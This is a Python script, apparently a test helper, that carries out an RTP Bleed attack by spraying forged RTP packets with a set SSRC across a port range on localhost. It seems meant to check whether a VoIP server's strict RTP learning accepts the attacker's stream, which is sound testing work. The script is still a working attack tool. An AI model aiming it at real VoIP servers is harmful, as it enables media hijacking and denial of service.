#!/usr/bin/env python3
"""An RTP Bleed attacker: from --bind (127.0.0.x), send RTP with --ssrc to
every port of --range LO-HI (RTP and RTCP ports alike) every 20 ms for
--seconds, each port its own stream in sequence (what strictrtp's learning
would take from a real phone), a payload of 0x55 bytes. Starts once --wait-file
exists. Prints how many packets it sent."""
import argparse
import os
import socket
import struct
import time

ap = argparse.ArgumentParser()
ap.add_argument("--bind", default="127.0.0.5")
ap.add_argument("--host", default="127.0.0.1")
ap.add_argument("--range", required=True)
ap.add_argument("--ssrc", type=lambda x: int(x, 0), default=0xBAD)
ap.add_argument("--seconds", type=float, default=5.0)
ap.add_argument("--wait-file")
a = ap.parse_args()
lo, hi = (int(x) for x in a.range.split("-"))
deadline = time.time() + 15
while a.wait_file and not os.path.exists(a.wait_file) and time.time() < deadline:
    time.sleep(0.02)
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.bind((a.bind, 0))
payload = b"\x55" * 160
sent = 0
start = time.time()
i = 0
while time.time() < start + a.seconds:
    for port in range(lo, hi + 1):
        hdr = struct.pack("!BBHII", 0x80, 0, (5000 + i) & 0xFFFF, 160 * i, a.ssrc)
        try:
            s.sendto(hdr + payload, (a.host, port))
            sent += 1
        except OSError:
            pass
    i += 1
    time.sleep(max(0.0, start + 0.02 * i - time.time()))
print("sprayed %d packets from %s to %s:%d-%d" % (sent, a.bind, a.host, lo, hi))
